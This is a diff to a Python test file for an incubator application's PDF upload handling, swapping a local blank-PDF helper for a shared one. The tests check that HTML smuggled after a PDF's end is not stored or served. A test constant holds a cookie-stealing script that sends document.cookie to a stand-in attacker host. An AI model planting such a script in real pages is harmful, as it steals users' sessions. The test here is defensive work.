@@ -16,17 +16,11 @@ from pypdf import PdfReader, PdfWriter
 from incubator.applications.models import ApplicationDocument, RoundDocument
 from incubator.auth.enums import Role
 from incubator.outcomes.models import GraduationOutcome
-from tests.helpers import post_form
+from tests.helpers import blank_pdf, post_form
 
 HTML = b"<html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>\n"
 
 
-def _pdf() -> bytes:
-    writer = PdfWriter()
-    writer.add_blank_page(width=200, height=200)
-    buffer = io.BytesIO()
-    writer.write(buffer)
-    return buffer.getvalue()
 
 
 def _updated(pdf: bytes) -> bytes:
@@ -126,7 +120,7 @@ def doors(founder, staff, make, db):
 
 @pytest.mark.parametrize("door", DOORS)
 def test_html_appended_after_the_eof_of_a_pdf_is_neither_stored_nor_served(door, doors, app):
-    pdf = _pdf()
+    pdf = blank_pdf()
     kind, stored, download = _upload_through(door, doors, pdf + HTML, "bao-cao.pdf")
     assert _on_disk(app, kind, stored).read_bytes() == pdf
     assert download.status_code == 200 and download.data == pdf
@@ -136,7 +130,7 @@ def test_html_appended_after_the_eof_of_a_pdf_is_neither_stored_nor_served(door,
 @pytest.mark.parametrize("door", DOORS)
 def test_html_carrying_its_own_eof_after_a_pdf_is_refused(door, doors, app):
     """A fake end (``%%EOF`` with no cross-reference before it) does not make the page part of the PDF."""
-    content = _pdf() + HTML + b"%%EOF\n"
+    content = blank_pdf() + HTML + b"%%EOF\n"
     if door == "application document":
         response = _upload_document(doors["founder"], content, "bao-cao.pdf")
         assert response.status_code == 303
@@ -152,7 +146,7 @@ def test_html_carrying_its_own_eof_after_a_pdf_is_refused(door, doors, app):
 
 @pytest.mark.parametrize("door", DOORS)
 def test_a_pdf_with_an_incremental_update_is_accepted_whole(door, doors, app):
-    updated = _updated(_pdf())
+    updated = _updated(blank_pdf())
     assert updated.count(b"%%EOF") == 2
     kind, stored, download = _upload_through(door, doors, updated + b"\r\n\x00\x00  \n", "da-sua.pdf")
     assert _on_disk(app, kind, stored).read_bytes() == updated  # the padding after the last %%EOF dropped
@@ -174,13 +168,13 @@ def test_every_upload_is_downloaded_as_an_attachment_with_a_pdf_name(door, uploa
                                                                      doors):
     if door == "outcome evidence" and not uploaded_as.lower().endswith(".pdf"):
         # The evidence form takes only names ending in .pdf; older records hold others.
-        _upload_through(door, doors, _pdf(), "tam.pdf")
+        _upload_through(door, doors, blank_pdf(), "tam.pdf")
         outcome = _outcome(doors["db"])
         outcome.evidence_filename = uploaded_as
         doors["db"].session.commit()
         download = doors["client"].get(f"/register/outcomes/{outcome.id}/evidence")
     else:
-        download = _upload_through(door, doors, _pdf(), uploaded_as)[2]
+        download = _upload_through(door, doors, blank_pdf(), uploaded_as)[2]
     assert download.status_code == 200
     assert download.mimetype == "application/pdf"
     assert download.headers["X-Content-Type-Options"] == "nosniff"
@@ -196,7 +190,7 @@ def test_every_upload_is_downloaded_as_an_attachment_with_a_pdf_name(door, uploa
 
 def test_a_record_whose_name_has_no_pdf_ending_is_still_downloaded_as_pdf(doors, make, db, app):
     """Files stored by earlier versions kept any name: the browser is given one ending in .pdf."""
-    _upload_through("outcome evidence", doors, _pdf(), "hop-dong.pdf")
+    _upload_through("outcome evidence", doors, blank_pdf(), "hop-dong.pdf")
     outcome = _outcome(db)
     outcome.evidence_filename = "hop-dong.exe"
     db.session.commit()
@@ -211,10 +205,10 @@ def test_a_record_whose_name_has_no_pdf_ending_is_still_downloaded_as_pdf(doors,
 # ---- Files no record refers to are deleted after the commit -----------------------------------------------
 
 def test_a_replaced_application_document_is_deleted_from_disk_after_the_request_commits(founder, db, app):
-    assert _upload_document(founder, _pdf(), "ban-1.pdf").status_code == 302
+    assert _upload_document(founder, blank_pdf(), "ban-1.pdf").status_code == 302
     first = _slot(db, founder).stored_name
     assert _on_disk(app, "applications", first).is_file()
-    assert _upload_document(founder, _pdf(), "ban-2.pdf").status_code == 302
+    assert _upload_document(founder, blank_pdf(), "ban-2.pdf").status_code == 302
     second = _slot(db, founder).stored_name
     assert second != first
     assert not _on_disk(app, "applications", first).exists()
@@ -224,7 +218,7 @@ def test_a_replaced_application_document_is_deleted_from_disk_after_the_request_
 
 def test_a_replaced_document_is_kept_when_the_request_fails_and_the_new_file_is_not_left_behind(
         founder, db, app, monkeypatch):
-    assert _upload_document(founder, _pdf(), "ban-1.pdf").status_code == 302
+    assert _upload_document(founder, blank_pdf(), "ban-1.pdf").status_code == 302
     first = _slot(db, founder).stored_name
     before = _files(app, "applications")
 
@@ -232,7 +226,7 @@ def test_a_replaced_document_is_kept_when_the_request_fails_and_the_new_file_is_
         raise RuntimeError("the request fails late")
 
     monkeypatch.setattr("incubator.applications.application_views.flash", broken)
-    response = _upload_document(founder, _pdf(), "ban-2.pdf")
+    response = _upload_document(founder, blank_pdf(), "ban-2.pdf")
     assert response.status_code == 500
     assert _slot(db, founder).stored_name == first
     assert _on_disk(app, "applications", first).is_file()
@@ -242,22 +236,22 @@ def test_a_replaced_document_is_kept_when_the_request_fails_and_the_new_file_is_
 
 
 def test_a_replaced_document_is_kept_when_the_service_fails_after_dropping_it(founder, db, app, monkeypatch):
-    assert _upload_document(founder, _pdf(), "ban-1.pdf").status_code == 302
+    assert _upload_document(founder, blank_pdf(), "ban-1.pdf").status_code == 302
     first = _slot(db, founder).stored_name
 
     def broken(*args, **kwargs):
         raise RuntimeError("the audit log is unavailable")
 
     monkeypatch.setattr("incubator.applications.services.audit.record", broken)
-    assert _upload_document(founder, _pdf(), "ban-2.pdf").status_code == 500
+    assert _upload_document(founder, blank_pdf(), "ban-2.pdf").status_code == 500
     assert _slot(db, founder).stored_name == first
     assert _on_disk(app, "applications", first).is_file()
 
 
 def test_replaced_and_removed_evidence_pdfs_are_deleted_from_disk(staff, make, db, app):
-    assert _new_outcome(staff, make.company(), _pdf(), "ban-1.pdf").status_code == 302
+    assert _new_outcome(staff, make.company(), blank_pdf(), "ban-1.pdf").status_code == 302
     first = _outcome(db).evidence_file
-    response = _edit_outcome(staff, _outcome(db), evidence_pdf=(io.BytesIO(_pdf()), "ban-2.pdf"))
+    response = _edit_outcome(staff, _outcome(db), evidence_pdf=(io.BytesIO(blank_pdf()), "ban-2.pdf"))
     assert response.status_code == 302
     second = _outcome(db).evidence_file
     assert not _on_disk(app, "evidence", first).exists() and _on_disk(app, "evidence", second).is_file()
@@ -267,7 +261,7 @@ def test_replaced_and_removed_evidence_pdfs_are_deleted_from_disk(staff, make, d
 
 
 def test_a_refused_edit_keeps_the_evidence_pdf(staff, make, db, app):
-    assert _new_outcome(staff, make.company(), _pdf()).status_code == 302
+    assert _new_outcome(staff, make.company(), blank_pdf()).status_code == 302
     outcome = _outcome(db)
     stale = outcome.version_id
     assert _edit_outcome(staff, outcome, note="Đã ký hợp đồng").status_code == 302
@@ -278,7 +272,7 @@ def test_a_refused_edit_keeps_the_evidence_pdf(staff, make, db, app):
 
 
 def test_deleting_a_record_deletes_its_file_after_the_commit_not_before(staff, make, db, app):
-    assert _new_outcome(staff, make.company(), _pdf()).status_code == 302
+    assert _new_outcome(staff, make.company(), blank_pdf()).status_code == 302
     outcome = _outcome(db)
     path = _on_disk(app, "evidence", outcome.evidence_file)
     db.session.delete(outcome.company)  # the outcome goes with its company (ORM cascade)
@@ -293,7 +287,7 @@ def test_deleting_a_record_deletes_its_file_after_the_commit_not_before(staff, m
 
 def test_a_rolled_back_savepoint_keeps_its_file_and_the_outer_transaction_deletes_its_own(staff, make, db, app):
     for name in ("a.pdf", "b.pdf"):
-        assert _new_outcome(staff, make.company(), _pdf(), name).status_code == 302
+        assert _new_outcome(staff, make.company(), blank_pdf(), name).status_code == 302
     first, second = db.session.query(GraduationOutcome).order_by(GraduationOutcome.id).all()
     first_path = _on_disk(app, "evidence", first.evidence_file)
     second_path = _on_disk(app, "evidence", second.evidence_file)
@@ -334,8 +328,8 @@ def _old(path: Path, content: bytes = b"%PDF-1.4 old\n%%EOF\n") -> Path:
 def folder(instance, founder, staff, make, db):
     """Files in use (one uploaded per kind), orphans left by earlier versions, a recent orphan, and files
     prune must never touch."""
-    assert _upload_document(founder, _pdf()).status_code == 302
-    assert _new_outcome(staff, make.company(), _pdf()).status_code == 302
+    assert _upload_document(founder, blank_pdf()).status_code == 302
+    assert _new_outcome(staff, make.company(), blank_pdf()).status_code == 302
     uploads = instance / "uploads"
     in_use = [uploads / "applications" / _slot(db, founder).stored_name,
               uploads / "evidence" / _outcome(db).evidence_file]
@@ -384,7 +378,7 @@ def test_prune_removes_only_old_unreferenced_stored_files_under_the_uploads_fold
 
 
 def test_prune_reports_records_whose_file_is_missing(runner, founder, instance, db):
-    assert _upload_document(founder, _pdf()).status_code == 302
+    assert _upload_document(founder, blank_pdf()).status_code == 302
     stored = _slot(db, founder).stored_name
     (instance / "uploads" / "applications" / stored).unlink()
     result = runner.invoke(args=["uploads", "prune", "--dry-run"])
